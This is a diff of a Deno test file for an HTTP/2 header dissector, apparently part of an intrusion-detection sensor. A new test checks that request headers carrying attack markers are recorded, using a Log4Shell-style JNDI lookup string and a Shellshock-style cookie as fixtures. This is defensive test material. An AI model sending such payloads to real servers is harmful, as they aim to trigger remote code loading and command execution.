@@ -6,6 +6,7 @@
 import { assert, assertEquals } from "@std/assert";
 import { HpackDecoder } from "../../../../sensor/dissect/plain/hpack.ts";
 import { Http2Reader } from "../../../../sensor/dissect/plain/http2_message.ts";
+import { plainKind } from "../../../../sensor/dissect/plain/plain_kind.ts";
 import { bytes, u32 } from "../../frames.ts";
 import { prng } from "../../ship/helpers.ts";
 import { bytesOf } from "../fixture.ts";
@@ -54,8 +55,15 @@ function send(
   const payload = stream.subarray(from, to);
   // Numbers that pass 2^31 on the way.
   const plainSeq = (0x7fffff00 + from) | 0;
-  const where = { plainOffset: 3, plainLength: payload.length, plainSeq, isFromServer: false };
-  reader.read(where, bytes(9, 9, 9, payload, 9), facts, flowId, from === 0);
+  const kind = from === 0 ? plainKind.http2 : plainKind.http2More;
+  const where = {
+    plainKind: kind,
+    plainOffset: 3,
+    plainLength: payload.length,
+    plainSeq,
+    isFromServer: false,
+  };
+  reader.read(where, bytes(9, 9, 9, payload, 9), facts, flowId);
 }
 
 function decode(decoder: HpackDecoder, digits: string): string[] | null {
@@ -154,6 +162,25 @@ Deno.test("a request over many segments is read whatever the segments, in one fr
       assertEquals(read(stream, size), { http: asked }, `segments of ${size}`);
     }
   }
+});
+
+Deno.test("a header that tells of an attack is kept, of requests alone", () => {
+  const of = (...fields: Uint8Array[]) =>
+    read(bytes(preface, frame(settings, 0, bytes()), frame(headers, endHeaders, bytes(...fields)))).http;
+  const api = field("x-api", "1 ${jndi:ldap://x/a}"), cookie = field("cookie", 'a={"b":1}; c=() { x');
+  assertEquals(of(bytes(0x82, 0x84), api, cookie), [
+    { method: "GET", uri: "/", header: "x-api: 1 ${jndi:ldap://x/a}" },
+  ]);
+  assertEquals(of(bytes(0x82, 0x84), cookie), [{
+    method: "GET",
+    uri: "/",
+    header: 'cookie: a={"b":1}; c=() { x',
+  }]);
+  assertEquals(of(bytes(0x82, 0x84), field("cookie", 'a={"b":{"c":1}}; d=O\'Neil')), [{
+    method: "GET",
+    uri: "/",
+  }]);
+  assertEquals(of(bytes(0x88), api), [{ status: 200 }]);
 });
 
 Deno.test("what stands around a block is left out: padding, priority, the number of a pushed stream", () => {
